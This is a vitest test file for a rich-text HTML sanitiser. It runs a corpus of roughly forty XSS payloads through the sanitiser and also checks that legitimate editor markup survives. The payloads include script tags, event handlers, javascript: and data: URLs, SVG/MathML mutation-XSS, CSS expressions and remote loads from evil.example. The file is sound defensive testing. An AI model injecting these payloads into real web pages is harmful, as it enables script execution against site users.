import { Window } from "happy-dom";
import { describe, expect, it } from "vitest";
import { richTextAllowList, sanitizeRichText } from "./index.ts";

// The sanitiser runs in Node (environment "node"); happy-dom only inspects what it returns.
const window = new Window();
const elementsOf = (html: string): Element[] => {
  const template = window.document.createElement("template");
  template.innerHTML = html;
  return [...(template.content as unknown as DocumentFragment).querySelectorAll("*")];
};

/** Attack samples: scripts, event handlers, javascript:/data: URLs, SVG, CSS expressions, mutation-XSS. */
const xssCorpus = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<p onclick="alert(1)">click</p>',
  '<a href="https://ok.example" onmouseover="alert(1)" target="_blank">x</a>',
  "<body onload=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  '<a href="//evil.example/x">protocol-relative</a>',
  "<svg onload=alert(1)><circle r=1 /></svg>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  '<p style="width: expression(alert(1))">x</p>',
  '<span style="font-family: expression(alert(1))">x</span>',
  '<span style="font-size: 12pt; background: url(javascript:alert(1))">x</span>',
  '<p style="margin-left: 30px; behavior: url(x.htc)">x</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
];

const bad = /javascript:|vbscript:|data:|expression\(|<script|<svg|<iframe|<style|onerror|onload/i;

describe("sanitizeRichText", () => {
  it.each(xssCorpus)("lets nothing of %s through", (payload) => {
    const clean = sanitizeRichText(payload);
    for (const element of elementsOf(clean)) {
      expect(richTextAllowList.tags).toContain(element.tagName.toLowerCase());
      for (const attribute of [...element.attributes]) {
        expect(attribute.name).not.toMatch(/^on/i);
        expect(attribute.value).not.toMatch(/javascript:|vbscript:|data:|expression\(|url\(/i);
      }
    }
    // No element or attribute of the attack survives, even as markup the browser would re-parse.
    expect(clean.replace(/&lt;[^&]*&gt;/g, "")).not.toMatch(bad);
  });

  it("drops an image whose source was refused instead of leaving an empty img", () => {
    expect(sanitizeRichText("<p>a<img src=x onerror=alert(1)>b</p>")).toBe("<p>ab</p>");
  });

  it("keeps text around dropped markup", () => {
    expect(sanitizeRichText("<div><p>Hello <blink>world</blink></p></div>")).toBe("<p>Hello world</p>");
    expect(sanitizeRichText("<p>a &lt;script&gt; tag as text</p>")).toBe(
      "<p>a &lt;script&gt; tag as text</p>",
    );
  });

  it("keeps every construct the editor writes", () => {
    const html = [
      '<h1>T</h1><h2 style="margin-left: 30px;">a</h2><h3>b</h3><h4>c</h4><h5>d</h5><h6>e</h6>',
      '<p style="margin-left: 300px;"><strong>b</strong><em>i</em><u>u</u><s>s</s><br></p>',
      '<p><a href="https://a.example/?q=1&amp;r=2" rel="noopener noreferrer nofollow">l</a>',
      '<a href="mailto:jobs@a.example" rel="noopener noreferrer nofollow">m</a></p>',
      '<p><span style="font-size: 8pt;">s</span><span style="font-family: &quot;Trebuchet MS&quot;, Helvetica, sans-serif;">f</span></p>',
      '<ul><li><p>x</p><ul><li><p>y</p></li></ul></li></ul><ol start="3"><li><p>z</p></li></ol>',
      '<table><colgroup><col style="width: 120px;"><col></colgroup><tbody><tr><th data-colwidth="120"><p>h</p></th>',
      '<th><p>h2</p></th></tr><tr><td colspan="2" rowspan="1"><p>c</p></td></tr></tbody></table>',
      '<p><img src="https://cdn.a.example/i.png" alt="Truck" width="720" height="405"><img src="/media/1.webp" alt=""></p>',
    ].join("");
    const clean = sanitizeRichText(html);
    const tags = (value: string) =>
      elementsOf(value).map((element) => element.outerHTML.replace(/\s+/g, " "));
    expect(clean).toContain('href="https://a.example/?q=1&amp;r=2"');
    expect(clean).toContain('style="font-family: &quot;Trebuchet MS&quot;, Helvetica, sans-serif"');
    expect(clean).toContain('style="margin-left: 300px"');
    expect(elementsOf(clean).map((element) => element.tagName)).toEqual(
      elementsOf(html).map((element) => element.tagName),
    );
    expect(tags(clean).length).toBe(tags(html).length);
  });

  it("drops styles and attribute values the editor never writes", () => {
    expect(sanitizeRichText('<p style="margin-left: 31px; color: red">x</p>')).toBe("<p>x</p>");
    expect(sanitizeRichText('<p><span style="font-size: 13pt">x</span></p>')).toBe("<p><span>x</span></p>");
    expect(sanitizeRichText('<ol start="-1"><li>x</li></ol>')).toBe("<ol><li>x</li></ol>");
    expect(sanitizeRichText('<p><img src="https://a.example/i.png" width="100%"></p>')).toBe(
      '<p><img src="https://a.example/i.png" /></p>',
    );
  });

  it("keeps only whole style declarations the schema writes", () => {
    expect(sanitizeRichText('<p style="color: red; margin-left: 60px; MARGIN-LEFT: 90px">x</p>')).toBe(
      '<p style="margin-left: 60px; margin-left: 90px">x</p>',
    );
    expect(sanitizeRichText(`<p><span style='font-family: "Arial;color:red", sans-serif'>x</span></p>`)).toBe(
      "<p><span>x</span></p>",
    );
    expect(sanitizeRichText('<p style="margin-left: 3\\30 px; margin-left: 30px /**/">x</p>')).toBe(
      "<p>x</p>",
    );
  });

  it("forces rel on links so stored links never open with window.opener", () => {
    expect(sanitizeRichText('<a href="https://a.example" target="_blank">x</a>')).toBe(
      '<a href="https://a.example" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it("leaves a long clean document unchanged", () => {
    const html = Array.from(
      { length: 300 },
      (_, i) => `<p>Line ${i} <strong>bold</strong> <a href="https://a.example/${i}">link</a></p>`,
    ).join("");
    expect(html.length).toBeGreaterThan(20_000);
    expect(sanitizeRichText(html)).toBe(
      html.replaceAll('">link', '" rel="noopener noreferrer nofollow">link'),
    );
  });
});
